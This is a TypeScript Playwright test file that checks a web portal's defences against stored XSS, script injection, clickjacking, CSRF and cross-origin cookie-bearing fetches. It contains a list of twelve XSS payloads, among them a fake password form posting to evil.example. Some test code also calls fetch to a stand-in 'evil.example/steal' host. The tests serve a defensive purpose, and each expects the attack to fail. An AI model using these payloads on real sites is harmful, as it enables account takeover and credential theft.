import type { Browser, Page } from "@playwright/test";
import { type Answer, type Attack, told } from "./attack";
import { formOn, submit } from "./page-forms";
import type { Portal } from "./portal";

const evil = "http://evil.example";

/** A page of another site, in the browser of somebody who has signed in here. */
async function fromEvil(portal: Portal, browser: Browser, html: string): Promise<Page> {
  const page = await portal.page(browser, "noor");
  await page
    .context()
    .route(`${evil}/**`, (route) =>
      route.fulfill({ contentType: "text/html", body: `<!doctype html>${html}` }),
    );
  await page.goto(`${evil}/`);
  return page;
}

async function ended(page: Page, answers: Answer[]): Promise<Answer[]> {
  await page.context().close();
  return answers;
}

const hostile = [
  "<script>window.owned = 1</script>",
  '<img src=x onerror="window.owned=1">',
  "[click](javascript:window.owned=1)",
  "![x](http://evil.example/pixel.png)",
  '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
  "[x](data:text/html,<script>opener.owned=1</script>)",
  '[x](http://a "onmouseover=window.owned=1")',
  '<a href="java\nscript:window.owned=1">x</a>',
  "</article></main><form action=http://evil.example><input name=password autofocus>",
  "<svg><animate onbegin=window.owned=1 attributeName=x dur=1s>",
  '<meta http-equiv=refresh content="0;url=http://evil.example">',
  "<base href=http://evil.example>",
];
const written = ["Comment", "Event", "Proposal", "Submission", "Seal", "Notice", "Watch"];

export const inBrowser: readonly Attack[] = [
  {
    tried: "Twelve hostile texts in one comment, which somebody else reads in a browser (stored XSS)",
    send: async (portal, browser) => {
      const fields = await formOn(portal, "/proposals/9", "noor", "Add to the discussion");
      const sent = await submit(
        portal,
        "/proposals/9",
        { ...fields, markdown: hostile.join("\n\n") },
        { as: "noor" },
      );
      const page = await portal.page(browser, "imani");
      const seen: string[] = [];
      page.on("dialog", (dialog) => {
        seen.push(dialog.message());
        void dialog.dismiss();
      });
      page.on("request", (request) => {
        if (request.url().includes("evil.example")) seen.push(request.url());
      });
      await page.goto("/proposals/9");
      const owned = await page.evaluate(() => "owned" in window);
      const inside = await page.locator(".tl .prose :is(script, iframe, form, svg, meta, base, img)").count();
      return ended(page, [
        sent,
        told(
          "seen",
          `ran: ${owned}, asked elsewhere: ${seen.length}, elements: ${inside}, address: ${new URL(page.url()).pathname}`,
        ),
      ]);
    },
    back: [
      [303, "location: /proposals/9"],
      ["seen", "ran: false, asked elsewhere: 0, elements: 0, address: /proposals/9"],
    ],
    writes: written,
  },
  {
    tried: "A script that got into a page all the same: inline, by an attribute, by eval, from another host",
    send: async (portal, browser) => {
      const page = await portal.page(browser, "noor");
      await page.goto("/proposals");
      const violations = await page.evaluate(async () => {
        const found: string[] = [];
        document.addEventListener("securitypolicyviolation", (event) => found.push(event.effectiveDirective));
        document.body.insertAdjacentHTML(
          "beforeend",
          `<img src="x:" onerror="window.owned=1"><iframe srcdoc="<script>parent.owned=1</script>"></iframe><form action="http://evil.example/"><button>x</button></form><object data="http://evil.example/x"></object>`,
        );
        const image = new Image();
        image.src = "http://evil.example/pixel.png";
        await fetch("http://evil.example/steal").catch(() => {});
        await new Promise((ok) => requestAnimationFrame(() => setTimeout(ok, 200)));
        return { found: [...new Set(found)].sort(), owned: "owned" in window };
      });
      return ended(page, [
        told(
          "seen",
          `ran: ${violations.owned}; stopped by ${violations.found.filter((name) => /img|connect|object|script/.test(name)).join(", ")}`,
        ),
      ]);
    },
    back: ["seen", "ran: false; stopped by connect-src, img-src, object-src, script-src-attr"],
  },
  {
    tried: "The portal in a frame of another site's page (clickjacking)",
    send: async (portal, browser) => {
      const page = await fromEvil(
        portal,
        browser,
        `<iframe src="${portal.address}/account" width=900 height=900></iframe>`,
      );
      await page.waitForLoadState("networkidle");
      const [, frame] = page.frames();
      const text = await frame?.evaluate(() => document.body?.innerText ?? "").catch(() => "");
      const shows = (text ?? "").includes("Sign out");
      return ended(page, [
        told("seen", `the frame shows the account: ${shows}; its address: ${frame?.url().slice(0, 15)}`),
      ]);
    },
    back: ["seen", "the frame shows the account: false; its address: chrome-error://"],
  },
  {
    tried:
      "A form on another site's page that sends itself to the portal, in the browser of somebody who has signed in",
    send: async (portal, browser) => {
      const fields = await formOn(portal, "/proposals/6", "noor", "Add to the discussion");
      const inputs = Object.entries({ ...fields, markdown: "From another page." }).map(
        ([name, value]) =>
          `<input name="${name}" value="${value.replaceAll("&", "&amp;").replaceAll('"', "&quot;")}">`,
      );
      const page = await fromEvil(
        portal,
        browser,
        `<form method="post" enctype="multipart/form-data" action="${portal.address}/proposals/6">${inputs.join("")}</form>`,
      );
      const [answer] = await Promise.all([
        page.waitForResponse((response) => response.url().startsWith(portal.address)),
        page.evaluate(() => document.forms[0]?.submit()),
      ]);
      return ended(page, [{ status: answer.status(), head: "", body: await answer.text() }]);
    },
    back: [403, "This did not come from the portal’s own pages"],
    also: {
      "The comment stands nowhere.": async (portal) =>
        (await portal.value(
          `SELECT count(*)::int FROM "Comment" WHERE "markdown" = 'From another page.'`,
        )) === 0,
    },
  },
  {
    tried:
      "A script on another site's page that reads and writes with the reader's cookies, in every mode that fetch has",
    send: async (portal, browser) => {
      const page = await fromEvil(portal, browser, "");
      const read = await page.evaluate(async (address) => {
        const ways: RequestInit[] = [
          { credentials: "include" },
          { credentials: "include", mode: "no-cors" },
          {
            credentials: "include",
            method: "POST",
            mode: "no-cors",
            headers: { "content-type": "text/plain" },
            body: '{"title":"x","summary":"y"}',
          },
          {
            credentials: "include",
            method: "POST",
            headers: { "content-type": "application/json" },
            body: '{"title":"x","summary":"y"}',
          },
        ];
        const texts = await Promise.all(
          ways.map((way) =>
            fetch(`${address}/api/v1/${way.method ? "proposals" : "me"}`, way).then(
              (answer) => answer.text(),
              () => "",
            ),
          ),
        );
        return texts.filter((text) => text !== "").length;
      }, portal.address);
      return ended(page, [told("seen", `answers that the page could read: ${read}`)]);
    },
    back: ["seen", "answers that the page could read: 0"],
  },
];
